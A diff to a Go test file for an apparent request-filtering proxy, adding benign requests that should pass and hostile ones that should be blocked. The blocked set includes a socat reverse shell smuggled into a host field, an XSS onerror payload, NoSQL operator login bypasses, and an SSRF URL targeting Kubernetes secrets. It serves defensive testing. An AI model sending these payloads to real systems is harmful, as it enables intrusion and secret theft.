@@ -108,6 +108,10 @@ func TestServeJudgesValuesByContext(t *testing.T) {
 		{name: "blog comment with a command", method: "POST", target: "/wp-comments-post.php", ct: "application/x-www-form-urlencoded", body: "comment=" + url.QueryEscape("use `rm -rf ./build` to clean") + "&comment_post_ID=12"},
 		{name: "blog embed and button", method: "POST", target: "/api/posts", ct: "application/json", body: postBody("Video", "Here is the talk:\n\n<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe>\n<button onclick=\"save()\">Save for later</button>\n\nTell me what you think of it.")},
 		{name: "search", method: "GET", target: "/search?q=" + url.QueryEscape("union select committee")},
+		{name: "shop product with styled html", method: "PUT", target: "/admin/api/2024-01/products/632910392.json", ct: "application/json", body: `{"product":{"id":632910392,"body_html":"<p style=\"text-align:center\"><strong>Good snowboard!</strong></p><img src=\"https://cdn.example.com/s/board.jpg\" style=\"max-width:100%\" alt=\"Board\">"}}`},
+		{name: "query document with operators", method: "POST", target: "/parse/classes/GameScore/query", ct: "application/json", body: `{"where":{"score":{"$gte":1000,"$lte":3000},"playerName":{"$ne":"cheater"}}}`},
+		{name: "strapi filters", method: "GET", target: "/api/articles?filters[title][$eq]=hello&sort=publishedAt:desc"},
+		{name: "job runner command", method: "POST", target: "/api/jobs", ct: "application/json", body: `{"schedule":"*/5 * * * *","command":"/usr/local/bin/backup.sh --full"}`},
 	}
 	block := []contextCase{
 		{name: "sqli in an id", method: "GET", target: "/api/users?id=" + url.QueryEscape("1 UNION SELECT password FROM users--")},
@@ -125,6 +129,10 @@ func TestServeJudgesValuesByContext(t *testing.T) {
 		{name: "angular sandbox escape", method: "GET", target: "/profile?name=" + url.QueryEscape("{{$on.constructor('alert(1)')()}}")},
 		{name: "nosql operator login", method: "POST", target: "/api/login", ct: "application/json", body: `{"username":{"$gt":""},"password":{"$gt":""}}`},
 		{name: "nosql where", method: "POST", target: "/api/users/search", ct: "application/json", body: `{"$where":"sleep(1000)"}`},
+		{name: "styled html with a handler", method: "PUT", target: "/admin/api/2024-01/products/1.json", ct: "application/json", body: `{"product":{"body_html":"<p style=\"color:red\">Sale</p><img src=x onerror=alert(document.domain)>"}}`},
+		{name: "nosql operator beside a query document", method: "POST", target: "/api/login", ct: "application/json", body: `{"filter":{},"username":{"$ne":null},"password":{"$ne":null}}`},
+		{name: "reverse shell in a host field", method: "POST", target: "/api/ping", ct: "application/json", body: `{"host":"socat TCP:203.0.113.9:9001 EXEC:bash"}`},
+		{name: "fetch url to a cluster service", method: "POST", target: "/api/preview", ct: "application/json", body: `{"url":"http://kubernetes.default.svc/api/v1/secrets"}`},
 	}
 	checkPassBlock(t, s.proxy, &hits, "203.0.113.", pass, block)
 }
